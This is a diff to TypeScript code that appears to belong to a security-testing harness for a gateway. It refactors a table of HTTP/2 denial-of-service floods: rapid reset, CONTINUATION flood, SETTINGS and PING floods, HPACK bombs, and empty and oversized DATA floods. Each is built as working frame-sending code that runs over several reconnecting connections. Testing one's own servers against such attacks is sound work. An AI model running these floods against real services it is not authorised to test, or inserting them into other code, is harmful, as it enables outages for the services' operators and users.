@@ -25,13 +25,16 @@ const MOST_REFUSED = 20;
 const STUCK_MS = 2_000;
 const GREETING = Buffer.concat([PREFACE, settings()]);
 
-/** A flood of units, which are streams or frames. `batch` makes the bytes of `size` units, starting at `first`. */
+/** A flood of units, which are streams or frames. */
 interface Flood {
   /** Units at full scale. */
   readonly count: number;
   /** Units in one write. */
   readonly size: number;
-  readonly batch: (first: number, size: number) => Buffer;
+  /** What precedes the units of a connection. */
+  readonly opening?: Buffer;
+  /** The bytes of a connection's unit. */
+  readonly unit: (index: number) => Buffer;
   /** The most units of a connection, for floods of streams. */
   readonly unitsPerConnection?: number;
   /** Whether it reads what the gateway sends; true when absent. */
@@ -39,7 +42,16 @@ interface Flood {
 }
 
 /** Sends `count` units over a few connections, at both listeners in turn. Reconnects after the gateway ends a connection. */
-function flood({ count, size, batch, unitsPerConnection = 1e9, reads = true }: Flood): AttackPlan {
+function flood({
+  count,
+  size,
+  unit,
+  opening = Buffer.alloc(0),
+  unitsPerConnection = 1e9,
+  reads = true,
+}: Flood): AttackPlan {
+  const batch = (first: number): Buffer =>
+    Buffer.concat(Array.from({ length: size }, (_, index) => unit(first + index)));
   const run: Attack = async (target, count, findings) => {
     let sent = 0;
     await forEachIndex(LANES, LANES, async (lane) => {
@@ -54,10 +66,10 @@ function flood({ count, size, batch, unitsPerConnection = 1e9, reads = true }: F
         refused = 0;
         if (reads) socket.resume();
         else socket.pause();
-        await writeAll(socket, GREETING);
+        await writeAll(socket, Buffer.concat([GREETING, opening]));
         for (let units = 0; units < unitsPerConnection && sent < count && !socket.destroyed; units += size) {
           sent += size;
-          await writeUnlessStuck(socket, batch(units, size));
+          await writeUnlessStuck(socket, batch(units));
         }
         socket.destroy();
       }
@@ -77,10 +89,6 @@ async function writeUnlessStuck(socket: Socket, bytes: Buffer): Promise<void> {
 /** Node takes stream numbers up to 2^31. */
 const STREAMS = 10_000;
 const PAGE = 16 * 1024;
-
-function repeat(size: number, make: (index: number) => Buffer): Buffer {
-  return Buffer.concat(Array.from({ length: size }, (_, index) => make(index)));
-}
 
 const streamOf = (unit: number): number => 2 * unit + 1;
 
@@ -104,63 +112,43 @@ function bomb(unit: number): Buffer {
   );
 }
 
-/** By attack; the count is of streams or frames. */
-export const FLOODS: Readonly<Record<string, AttackPlan>> = {
-  "rapid-reset": flood({
-    count: 100_000,
-    size: 100,
-    unitsPerConnection: STREAMS,
-    batch: (first, size) =>
-      repeat(size, (index) => {
-        const stream = streamOf(first + index);
-        const request = (first + index) % 2 === 0 ? login() : get("/openapi.json");
-        return Buffer.concat([framesOf(stream, request), resetStream(stream)]);
-      }),
-  }),
-  "continuation-flood": flood({
+function resetAtOnce(index: number): Buffer {
+  const stream = streamOf(index);
+  return Buffer.concat([framesOf(stream, index % 2 === 0 ? login() : get("/openapi.json")), resetStream(stream)]);
+}
+
+/** More bytes than a login may have, within the flow-control window. */
+function pageOf(index: number): Buffer {
+  const stream = streamOf(index);
+  return Buffer.concat([
+    openStream(stream, login().headers, false),
+    data(stream, Buffer.alloc(PAGE, LOGIN_BODY), false),
+  ]);
+}
+
+const FLOODED: Readonly<Record<string, Flood>> = {
+  "rapid-reset": { count: 100_000, size: 100, unitsPerConnection: STREAMS, unit: resetAtOnce },
+  "continuation-flood": {
     count: 100_000,
     size: 50,
-    batch: (first, size) => {
-      const [head] = openStreamInParts(1, get("/auth/time").headers);
-      const flood = repeat(size, (index) =>
-        frame(CONTINUATION, 0, 1, Buffer.alloc(index % 2 === 0 ? 1024 : 0, NEWEST)),
-      );
-      return first === 0 ? Buffer.concat([head, flood]) : flood;
-    },
-  }),
-  "settings-flood": flood({ count: 200_000, size: 500, batch: (_, size) => repeat(size, () => settings(65_535)) }),
-  "settings-flood-unread": flood({
+    opening: openStreamInParts(1, get("/auth/time").headers)[0],
+    unit: (index) => frame(CONTINUATION, 0, 1, Buffer.alloc(index % 2 === 0 ? 1024 : 0, NEWEST)),
+  },
+  "settings-flood": { count: 200_000, size: 500, unit: () => settings(65_535) },
+  "settings-flood-unread": { count: 200_000, size: 500, reads: false, unit: () => settings(1) },
+  "ping-flood": { count: 200_000, size: 500, unit: ping },
+  "ping-flood-unread": { count: 200_000, size: 500, reads: false, unit: ping },
+  "hpack-bombs": { count: 10_000, size: 10, unitsPerConnection: STREAMS, unit: bomb },
+  "empty-data": {
     count: 200_000,
     size: 500,
-    reads: false,
-    batch: (_, size) => repeat(size, () => settings(1)),
-  }),
-  "ping-flood": flood({ count: 200_000, size: 500, batch: (_, size) => repeat(size, ping) }),
-  "ping-flood-unread": flood({ count: 200_000, size: 500, reads: false, batch: (_, size) => repeat(size, ping) }),
-  "hpack-bombs": flood({
-    count: 10_000,
-    size: 10,
-    unitsPerConnection: STREAMS,
-    batch: (first, size) => repeat(size, (index) => bomb(first + index)),
-  }),
-  "empty-data": flood({
-    count: 200_000,
-    size: 500,
-    batch: (first, size) => {
-      const empty = repeat(size, () => data(1, Buffer.alloc(0), false));
-      return first === 0 ? Buffer.concat([openStream(1, login().headers, false), empty]) : empty;
-    },
-  }),
-  // More bytes than a login may have, within the flow-control window.
-  "data-flood": flood({
-    count: 20_000,
-    size: 4,
-    unitsPerConnection: STREAMS,
-    batch: (first, size) =>
-      repeat(size, (index) => {
-        const stream = streamOf(first + index);
-        const page = Buffer.alloc(PAGE, LOGIN_BODY);
-        return Buffer.concat([openStream(stream, login().headers, false), data(stream, page, false)]);
-      }),
-  }),
+    opening: openStream(1, login().headers, false),
+    unit: () => data(1, Buffer.alloc(0), false),
+  },
+  "data-flood": { count: 20_000, size: 4, unitsPerConnection: STREAMS, unit: pageOf },
 };
+
+/** By attack; the count is of streams or frames. */
+export const FLOODS: Readonly<Record<string, AttackPlan>> = Object.fromEntries(
+  Object.entries(FLOODED).map(([name, one]) => [name, flood(one)]),
+);
